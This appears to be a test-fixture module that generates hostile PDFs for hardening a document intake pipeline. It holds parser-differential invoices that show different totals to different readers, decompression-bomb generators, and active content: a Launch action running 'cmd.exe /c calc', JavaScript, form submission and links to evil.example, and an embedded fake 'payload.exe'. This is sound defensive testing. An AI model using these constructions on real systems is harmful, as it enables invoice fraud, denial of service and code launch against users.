// Hand-made PDFs for the second round of hostile input (issue 17): files that pdf-lib and the
// viewers read differently, decompression bombs behind filter chains, active content, and page
// geometry no renderer can draw. Each is written object by object so every offset is exact.
import { deflateRawSync, deflateSync, constants as zc } from 'node:zlib';
import { assemblePdf } from './pdf-bytes.mjs';

const latin1 = (s) => Buffer.from(s, 'latin1');

function stream(dict, data) {
  return Buffer.concat([
    latin1(`<< ${dict} /Length ${data.length} >>\nstream\n`),
    data,
    latin1('\nendstream'),
  ]);
}

function textContent(lines) {
  return latin1(lines.map((t, i) => `BT /F1 18 Tf 72 ${720 - i * 30} Td (${t}) Tj ET`).join('\n'));
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const page = (extra = '', box = '[0 0 595 842]') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra}>>`;

/** A one-page PDF whose page dictionary gets `pageExtra` and whose page is `box`. */
export function pagePdf({
  text = 'INVOICE INV-0001',
  pageExtra = '',
  box,
  catalogExtra = '',
  more = [],
} = {}) {
  return assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(pageExtra, box),
    stream('', textContent([text])),
    FONT,
    ...more,
  ]);
}

// ---- class 1: two readings of one file ---------------------------------------------------------

/**
 * The cross-reference table points at the first body of the content stream ("TOTAL 690"); a
 * second body of the same object ("TOTAL 5690") sits later in the file, referenced by nothing.
 * Viewers follow the table (690); a parser that takes the last body it scans sees 5690.
 */
export function shadowBodyPdf() {
  const base = pagePdf({ text: 'INVOICE INV-0001 TOTAL 690 UNITS' });
  const at = base.indexOf(latin1('xref\n'));
  const shadow = Buffer.concat([
    latin1('4 0 obj\n'),
    stream('', textContent(['INVOICE INV-0001 TOTAL 5690 UNITS'])),
    latin1('\nendobj\n'),
  ]);
  // the xref offsets stay right: the shadow body goes between the last object and the table,
  // so only startxref moves
  const head = base.subarray(0, at);
  const tail = latin1(
    base
      .subarray(at)
      .toString('latin1')
      .replace(/startxref\n(\d+)/, (_, n) => `startxref\n${Number(n) + shadow.length}`),
  );
  return Buffer.concat([head, shadow, tail]);
}

/**
 * An incremental update that appends a new body of the content stream ("TOTAL 5690") and a new
 * cross-reference section which does not list it (only the catalog): viewers keep the body of
 * the first section (690), a last-body-wins parser takes the appended one.
 */
export function unlistedUpdatePdf() {
  const base = pagePdf({ text: 'INVOICE INV-0001 TOTAL 690 UNITS' });
  const prev = Number(/startxref\n(\d+)/.exec(base.toString('latin1'))[1]);
  let pos = base.length;
  const body4 = Buffer.concat([
    latin1('4 0 obj\n'),
    stream('', textContent(['INVOICE INV-0001 TOTAL 5690 UNITS'])),
    latin1('\nendobj\n'),
  ]);
  pos += body4.length;
  const off1 = pos;
  const body1 = latin1('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n');
  pos += body1.length;
  const xref = latin1(
    `xref\n0 2\n0000000000 65535 f \n${String(off1).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${prev} >>\nstartxref\n${pos}\n%%EOF\n`,
  );
  return Buffer.concat([base, body4, body1, xref]);
}

/**
 * startxref points at an earlier cross-reference section whose trailer names catalog 1 (a page
 * saying 690), while the last trailer in the file names catalog 6 (a page saying 5690).
 */
export function twoTrailersPdf() {
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(),
    stream('', textContent(['INVOICE INV-0001 TOTAL 690 UNITS'])),
    FONT,
    '<< /Type /Catalog /Pages 7 0 R >>',
    '<< /Type /Pages /Kids [8 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Contents 9 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('', textContent(['INVOICE INV-0001 TOTAL 5690 UNITS'])),
  ];
  const chunks = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let pos = chunks[0].length;
  const offsets = [];
  objs.forEach((body, i) => {
    offsets.push(pos);
    const b = Buffer.concat([
      latin1(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(body) ? body : latin1(body),
      latin1('\nendobj\n'),
    ]);
    chunks.push(b);
    pos += b.length;
  });
  const table = (root) => {
    let x = `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
    for (const o of offsets) x += `${String(o).padStart(10, '0')} 00000 n \n`;
    return `${x}trailer\n<< /Size ${objs.length + 1} /Root ${root} 0 R >>\n`;
  };
  const first = pos;
  const a = latin1(table(1));
  pos += a.length;
  const b = latin1(`${table(6)}startxref\n${first}\n%%EOF\n`);
  chunks.push(a, b);
  return Buffer.concat(chunks);
}

/** A genuine incremental update (the total corrected to 700, listed in the new section). */
export function honestUpdatePdf() {
  const base = pagePdf({ text: 'INVOICE INV-0001 TOTAL 690 UNITS' });
  const prev = Number(/startxref\n(\d+)/.exec(base.toString('latin1'))[1]);
  const off4 = base.length;
  const body4 = Buffer.concat([
    latin1('4 0 obj\n'),
    stream('', textContent(['INVOICE INV-0001 TOTAL 700 UNITS (CORRECTED)'])),
    latin1('\nendobj\n'),
  ]);
  const xrefAt = off4 + body4.length;
  const xref = latin1(
    `xref\n4 1\n${String(off4).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
  );
  return Buffer.concat([base, body4, xref]);
}

// ---- class 2: decompression bombs behind filter chains ----------------------------------------

/**
 * A zlib stream of `mib` MiB of zeros, made without compressing them: one compressed MiB ended by
 * a full flush (so it references nothing before it) repeated, then an empty final block and the
 * Adler-32 of the zeros (a = 1, b = length mod 65521).
 */
export function zerosZlib(mib) {
  const block = deflateRawSync(Buffer.alloc(1 << 20), {
    level: 9,
    finishFlush: zc.Z_FULL_FLUSH,
  });
  const last = deflateRawSync(Buffer.alloc(0));
  const len = BigInt(mib) << 20n;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((Number(len % 65521n) << 16) | 1) >>> 0);
  const parts = [Buffer.from([0x78, 0xda])];
  for (let i = 0; i < mib; i++) parts.push(block);
  parts.push(last, adler);
  return Buffer.concat(parts);
}

/** PDF LZW (EarlyChange 1) of `cycles` × ~7.4 MB of zeros, emitted code by code. */
export function zerosLzw(cycles) {
  const out = [];
  let acc = 0;
  let bits = 0;
  const put = (code, width) => {
    acc = (acc << width) | code;
    bits += width;
    while (bits >= 8) {
      out.push((acc >>> (bits - 8)) & 0xff);
      bits -= 8;
    }
    acc &= (1 << bits) - 1;
  };
  const widthFor = (next) =>
    next + 1 >= 2048 ? 12 : next + 1 >= 1024 ? 11 : next + 1 >= 512 ? 10 : 9;
  for (let c = 0; c < cycles; c++) {
    put(256, c === 0 ? 9 : 12); // clear
    let next = 258;
    put(0, 9); // "0"
    // each further code names the entry the decoder is about to add: one zero longer each time
    while (next < 4094) {
      put(next, widthFor(next));
      next++;
    }
  }
  put(257, 12);
  if (bits) put(0, 8 - bits);
  return Buffer.from(out);
}

/** A one-page PDF whose content stream is `data` under `filter` (and `parms`). */
export function contentBombPdf(filter, data, parms = '') {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    stream(`/Filter ${filter} ${parms}`, data),
  ]);
}

/** A page showing an image XObject whose data is `data` under `filter`. */
export function imageBombPdf(filter, data, { width = 100, height = 100, parms = '' } = {}) {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>',
    stream('', latin1('q 400 0 0 400 100 300 cm /Im1 Do Q')),
    stream(
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter ${filter} ${parms}`,
      data,
    ),
  ]);
}

/** A page drawing a form XObject whose content stream is the bomb. */
export function formBombPdf(filter, data) {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Fm1 5 0 R >> >> >>',
    stream('', latin1('q /Fm1 Do Q')),
    stream(`/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Filter ${filter}`, data),
  ]);
}

/** Zeros Flate-compressed twice: `mib` MiB from a few kilobytes. */
export function doubleFlate(mib) {
  return deflateSync(zerosZlib(mib), { level: 9 });
}

// ---- class 7: active content ------------------------------------------------------------------

/** An invoice page carrying every kind of active content the issue lists. */
export function activeContentPdf() {
  return assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 10 0 R >> /Names << /JavaScript << /Names [(a) 10 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 11 0 R] >> >> /AcroForm << /Fields [9 0 R] /XFA 13 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 10 0 R /C 10 0 R >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] >>`,
    stream('', textContent(['INVOICE INV-0001 TOTAL 690 UNITS', 'ACTIVE CONTENT TEST'])),
    FONT,
    '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] /A << /S /URI /URI (http://evil.example/track) >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /FS 11 0 R /Contents (attached) >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (690) /Rect [72 440 300 460] /P 3 0 R /AA << /K 10 0 R /F 10 0 R >> /A << /S /SubmitForm /F (http://evil.example/) /Next 10 0 R >> >>`,
    `<< /S /JavaScript /JS 14 0 R >>`,
    '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 12 0 R >> >>',
    stream('/Type /EmbeddedFile', latin1('MZ not really an executable')),
    stream('', latin1('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
    stream('', latin1('app.launchURL("http://evil.example/js");')),
  ]);
}

/** The XMP packet of a document saved by a person on their own computer (paths, user name). */
const PRIVATE_XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/">
<dc:creator><rdf:Seq><rdf:li>tanaka.hiroshi</rdf:li></rdf:Seq></dc:creator>
<xmp:CreatorTool>SecretTool 9 (C:\\Users\\tanaka.hiroshi\\Desktop\\supplier-invoices)</xmp:CreatorTool>
<pdf:Producer>PrivateProducer 1.0</pdf:Producer>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>`;

/**
 * Active content (a page script, a web link) in a document that also carries what a person's
 * computer writes into a file: an Info dictionary with a local path and a user name, XMP
 * metadata on the catalog and on the page, and an application's private page data (/PieceInfo).
 */
export function activeWithMetadataPdf() {
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R /Metadata 8 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Metadata 8 0 R /PieceInfo << /SecretTool << /Private (C:\\\\Users\\\\tanaka.hiroshi\\\\secret.ai) /LastModified (D:20260101000000Z) >> >> /LastModified (D:20260101000000Z) /Annots [6 0 R] >>`,
      stream('', textContent(['INVOICE INV-0001 TOTAL 690 UNITS'])),
      FONT,
      '<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] /A << /S /URI /URI (http://evil.example/track) >> >>',
      '<< /Title (C:\\\\Users\\\\tanaka.hiroshi\\\\Desktop\\\\supplier-invoices\\\\INV-0001.docx) /Author (tanaka.hiroshi) /Creator (SecretTool 9) /Producer (PrivateProducer 1.0) /Keywords (/home/tanaka/private) /CreationDate (D:20260101000000Z) >>',
      stream('/Type /Metadata /Subtype /XML', latin1(PRIVATE_XMP)),
    ],
    { extraTrailer: '/Info 7 0 R ' },
  );
}

/** The same metadata on a document without active content (attached to upload/ as it is). */
export function plainWithMetadataPdf() {
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R /Metadata 7 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Metadata 7 0 R /PieceInfo << /SecretTool << /Private (C:\\\\Users\\\\tanaka.hiroshi\\\\secret.ai) /LastModified (D:20260101000000Z) >> >> >>`,
      stream('', textContent(['INVOICE INV-0001 TOTAL 690 UNITS'])),
      FONT,
      '<< /Title (C:\\\\Users\\\\tanaka.hiroshi\\\\Desktop\\\\supplier-invoices\\\\INV-0001.docx) /Author (tanaka.hiroshi) /Creator (SecretTool 9) /Producer (PrivateProducer 1.0) >>',
      stream('/Type /Metadata /Subtype /XML', latin1(PRIVATE_XMP)),
    ],
    { extraTrailer: '/Info 6 0 R ' },
  );
}

const JS = (s) => `<< /S /JavaScript /JS (${s}) >>`;

/** Page-level additional action: JavaScript when the page opens. */
export const pageAaJsPdf = () =>
  pagePdf({ pageExtra: '/AA << /O 6 0 R /C 6 0 R >>', more: [JS('app.alert\\(1\\)')] });

/** A link annotation that launches a program. */
export const linkLaunchPdf = () =>
  pagePdf({
    pageExtra: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    ],
  });

/** A link annotation that opens a web address. */
export const linkUriPdf = () =>
  pagePdf({
    pageExtra: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /URI /URI (http://evil.example/track) >> >>',
    ],
  });

/** An embedded file, attached to the page and listed in the document's names. */
export const embeddedFilePdf = () =>
  pagePdf({
    pageExtra: '/Annots [6 0 R]',
    catalogExtra: '/Names << /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >>',
    more: [
      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /FS 7 0 R /Contents (attached) >>',
      '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 8 0 R >> >>',
      stream('/Type /EmbeddedFile', latin1('MZ not really an executable')),
    ],
  });

/** A form field whose keystroke and format scripts change the value shown. */
export const formScriptPdf = () =>
  pagePdf({
    pageExtra: '/Annots [6 0 R]',
    catalogExtra: '/AcroForm << /Fields [6 0 R] >>',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (690) /Rect [72 440 300 460] /P 3 0 R /AA << /K 7 0 R /F 7 0 R /C 7 0 R >> >>',
      JS('event.value=5690'),
    ],
  });

/** A static XFA form next to the page content (no /NeedsRendering). */
export const xfaPdf = () =>
  pagePdf({
    catalogExtra: '/AcroForm << /Fields [] /XFA 6 0 R >>',
    more: [
      stream(
        '',
        latin1(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>',
        ),
      ),
    ],
  });

// ---- class 11: page geometry ------------------------------------------------------------------

export const boxPdf = (box, pageExtra = '') => pagePdf({ box, pageExtra });

/** A page drawing an inline image (BI … ID … EI) of `w` × `h` grey pixels, data Flate-encoded. */
export function inlineImagePdf(w, h, pixels = Buffer.alloc(16, 128)) {
  const data = deflateSync(pixels);
  const content = Buffer.concat([
    latin1(
      `q 200 0 0 200 100 300 cm\nBI /W ${w} /H ${h} /CS /G /BPC 8 /F /Fl /L ${data.length} ID `,
    ),
    data,
    latin1('\nEI Q\nBT /F1 18 Tf 72 720 Td (INVOICE INV-0001) Tj ET'),
  ]);
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('', content),
    FONT,
  ]);
}
